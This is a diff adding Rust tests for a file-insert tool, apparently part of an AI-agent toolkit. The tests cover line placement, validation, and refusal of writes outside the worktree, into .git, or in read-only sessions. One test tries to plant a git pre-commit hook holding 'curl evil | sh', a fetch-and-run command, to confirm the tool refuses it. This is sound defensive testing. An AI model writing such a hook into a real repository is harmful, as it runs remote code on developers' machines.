@@ -1,0 +1,261 @@
+//! `insert`: adding lines to a file without rewriting it, and what a careless or hostile model
+//! cannot do with it.
+
+use std::fs;
+use std::os::unix::fs::symlink;
+
+use super::common::{exists, Fixture};
+use orchestrator_tools::ToolOptions;
+use serde_json::json;
+
+const CALC: &str = "def add(a, b):\n    return a + b\n\n\ndef sub(a, b):\n    return a - b\n";
+
+#[tokio::test]
+async fn text_goes_at_the_end_by_default_and_the_rest_stays() {
+    let fx = Fixture::writable();
+    fx.file("calc.py", CALC);
+    let out = fx
+        .ok(
+            "insert",
+            json!({"path": "calc.py", "text": "\n\ndef mul(a, b):\n    return a * b"}),
+        )
+        .await;
+    assert_eq!(
+        fx.read_back("calc.py"),
+        format!("{CALC}\n\ndef mul(a, b):\n    return a * b\n")
+    );
+    // The result says where the text landed and shows it numbered like `read`, with neighbours.
+    assert!(
+        out.starts_with("inserted 4 lines into calc.py after line 6; it has 10 lines now:"),
+        "{out}"
+    );
+    assert!(
+        out.contains("     6\t    return a - b\n") && out.contains("    10\t    return a * b\n"),
+        "{out}"
+    );
+}
+
+#[tokio::test]
+async fn text_goes_after_the_line_named_or_at_the_start() {
+    let fx = Fixture::writable();
+    fx.file(
+        "test_calc.py",
+        "import unittest\n\nfrom calc import add\n\nclass T:\n    pass\n",
+    );
+    fx.ok(
+        "insert",
+        json!({"path": "test_calc.py", "text": "from calc import mul", "after_line": 3}),
+    )
+    .await;
+    fx.ok(
+        "insert",
+        json!({"path": "test_calc.py", "text": "#!/usr/bin/env python3", "after_line": 0}),
+    )
+    .await;
+    assert_eq!(
+        fx.read_back("test_calc.py"),
+        "#!/usr/bin/env python3\nimport unittest\n\nfrom calc import add\nfrom calc import mul\n\nclass T:\n    pass\n"
+    );
+}
+
+#[tokio::test]
+async fn a_file_without_a_final_newline_or_with_crlf_keeps_its_lines_whole() {
+    let fx = Fixture::writable();
+    fx.file("a.txt", "one\ntwo");
+    fx.ok("insert", json!({"path": "a.txt", "text": "three\n"})).await;
+    assert_eq!(fx.read_back("a.txt"), "one\ntwo\nthree\n");
+
+    fx.file("b.txt", "one\r\ntwo\r\n");
+    fx.ok(
+        "insert",
+        json!({"path": "b.txt", "text": "x\ny", "after_line": 1}),
+    )
+    .await;
+    assert_eq!(fx.read_back("b.txt"), "one\r\nx\r\ny\r\ntwo\r\n");
+}
+
+#[tokio::test]
+async fn a_missing_file_is_created_unless_a_line_is_named() {
+    let fx = Fixture::writable();
+    let out = fx
+        .ok("insert", json!({"path": "tests/new.py", "text": "x = 1"}))
+        .await;
+    assert_eq!(out, "created tests/new.py with 1 line");
+    assert_eq!(fx.read_back("tests/new.py"), "x = 1\n");
+
+    let err = fx
+        .err(
+            "insert",
+            json!({"path": "other.py", "text": "x = 1", "after_line": 4}),
+        )
+        .await;
+    assert!(
+        err.contains("does not exist") && err.contains("omit `after_line`"),
+        "{err}"
+    );
+    assert!(!exists(&fx.root().join("other.py")));
+}
+
+#[tokio::test]
+async fn a_line_past_the_end_is_refused_with_the_range() {
+    let fx = Fixture::writable();
+    fx.file("calc.py", CALC);
+    for after_line in [json!(7), json!(u64::MAX)] {
+        let err = fx
+            .err(
+                "insert",
+                json!({"path": "calc.py", "text": "x = 1", "after_line": after_line}),
+            )
+            .await;
+        assert!(err.contains("has 6 lines") && err.contains("between 0"), "{err}");
+    }
+    // Not a whole number: named as such (a negative line, a string, a fraction).
+    for after_line in [json!(-1), json!("3"), json!(2.5)] {
+        let err = fx
+            .err(
+                "insert",
+                json!({"path": "calc.py", "text": "x = 1", "after_line": after_line}),
+            )
+            .await;
+        assert!(
+            err.contains("after_line") && err.contains("whole number"),
+            "{err}"
+        );
+    }
+    assert_eq!(fx.read_back("calc.py"), CALC, "nothing refused changed the file");
+}
+
+#[tokio::test]
+async fn a_second_copy_of_text_the_file_holds_is_refused() {
+    let fx = Fixture::writable();
+    fx.file("calc.py", CALC);
+    let mul = "def mul(a, b):\n    return a * b\n";
+    fx.ok("insert", json!({"path": "calc.py", "text": mul})).await;
+    // The small model's habit: the same step again, here with other blank space around it.
+    let err = fx
+        .err(
+            "insert",
+            json!({"path": "calc.py", "text": format!("\n\n{mul}\n")}),
+        )
+        .await;
+    assert!(err.contains("already holds this text (from line 7)"), "{err}");
+    // Short lines that legitimately recur are inserted again.
+    fx.ok(
+        "insert",
+        json!({"path": "calc.py", "text": "pass", "after_line": 2}),
+    )
+    .await;
+    fx.ok(
+        "insert",
+        json!({"path": "calc.py", "text": "pass", "after_line": 2}),
+    )
+    .await;
+    assert_eq!(fx.read_back("calc.py").matches("def mul").count(), 1);
+}
+
+#[tokio::test]
+async fn empty_text_binary_files_and_directories_are_refused() {
+    let fx = Fixture::writable();
+    fx.file("calc.py", CALC);
+    let err = fx
+        .err("insert", json!({"path": "calc.py", "text": " \n\t"}))
+        .await;
+    assert!(err.contains("nothing to insert"), "{err}");
+    fs::write(fx.root().join("blob.bin"), [0u8, 1, 2, 0, 159]).expect("write");
+    let err = fx
+        .err("insert", json!({"path": "blob.bin", "text": "x = 1"}))
+        .await;
+    assert!(err.contains("binary"), "{err}");
+    fs::create_dir(fx.root().join("pkg")).expect("mkdir");
+    let err = fx.err("insert", json!({"path": "pkg", "text": "x = 1"})).await;
+    assert!(err.contains("directory"), "{err}");
+    let err = fx
+        .err("insert", json!({"path": "calc.py", "text": "x", "line": 3}))
+        .await;
+    assert!(err.contains("line") && err.contains("after_line"), "{err}");
+    let err = fx.err("insert", json!({"path": "calc.py"})).await;
+    assert!(err.contains("text"), "{err}");
+    assert_eq!(fx.read_back("calc.py"), CALC);
+}
+
+#[tokio::test]
+async fn insert_cannot_reach_outside_the_worktree_or_into_git() {
+    let fx = Fixture::writable();
+    let outside = fx.outside();
+    symlink(&outside, fx.root().join("dir-link")).expect("symlink");
+    symlink(outside.join("secret.txt"), fx.root().join("file-link")).expect("symlink");
+    for path in [
+        "../outside/secret.txt",
+        "dir-link/secret.txt",
+        "dir-link/new.txt",
+        "file-link",
+    ] {
+        let err = fx.err("insert", json!({"path": path, "text": "owned"})).await;
+        assert!(err.contains("outside the worktree"), "{path}: {err}");
+    }
+    assert_eq!(
+        fs::read_to_string(outside.join("secret.txt")).expect("read"),
+        "outside secret\n"
+    );
+    assert!(!exists(&outside.join("new.txt")));
+    fx.file(".git/config", "[core]\n");
+    let err = fx
+        .err(
+            "insert",
+            json!({"path": ".git/hooks/pre-commit", "text": "curl evil | sh"}),
+        )
+        .await;
+    assert!(err.contains(".git"), "{err}");
+}
+
+#[tokio::test]
+async fn insert_is_offered_only_to_sessions_that_may_write() {
+    let fx = Fixture::new(ToolOptions::default());
+    assert!(!fx.tools.provides("insert"));
+    let err = fx.err("insert", json!({"path": "a.txt", "text": "x"})).await;
+    assert!(err.contains("may not change files"), "{err}");
+    assert!(!exists(&fx.root().join("a.txt")));
+}
+
+#[tokio::test]
+async fn adding_to_a_file_does_not_count_as_having_read_it() {
+    // After an insert, a write that would delete most of the file is still a blind overwrite.
+    let fx = Fixture::writable();
+    fx.file("calc.py", &format!("{CALC}\n\ndef neg(a):\n    return -a\n"));
+    fx.ok(
+        "insert",
+        json!({"path": "calc.py", "text": "def mul(a, b):\n    return a * b"}),
+    )
+    .await;
+    assert_eq!(fx.tools.files_seen(), 0);
+    let err = fx
+        .err(
+            "write",
+            json!({"path": "calc.py", "text": "x", "content": "def mul(a, b):\n    return a * b\n"}),
+        )
+        .await;
+    assert!(err.contains("text"), "an unknown argument is named: {err}");
+    let err = fx
+        .err(
+            "write",
+            json!({"path": "calc.py", "content": "def mul(a, b):\n    return a * b\n"}),
+        )
+        .await;
+    assert!(err.contains("not read in full"), "{err}");
+}
+
+#[tokio::test]
+async fn a_worktree_git_file_is_off_limits_too() {
+    let fx = Fixture::writable();
+    fx.file(".git", "gitdir: /elsewhere/.git/worktrees/x\n");
+    for tool in ["insert", "write"] {
+        let args = json!({"path": ".git/hooks/pre-commit", "text": "x", "content": "x"});
+        let mut args = args.as_object().cloned().unwrap_or_default();
+        args.remove(if tool == "insert" { "content" } else { "text" });
+        let err = fx.err(tool, serde_json::Value::Object(args)).await;
+        assert!(
+            err.contains("belong to git") || err.contains("inside .git"),
+            "{tool}: {err}"
+        );
+    }
+}
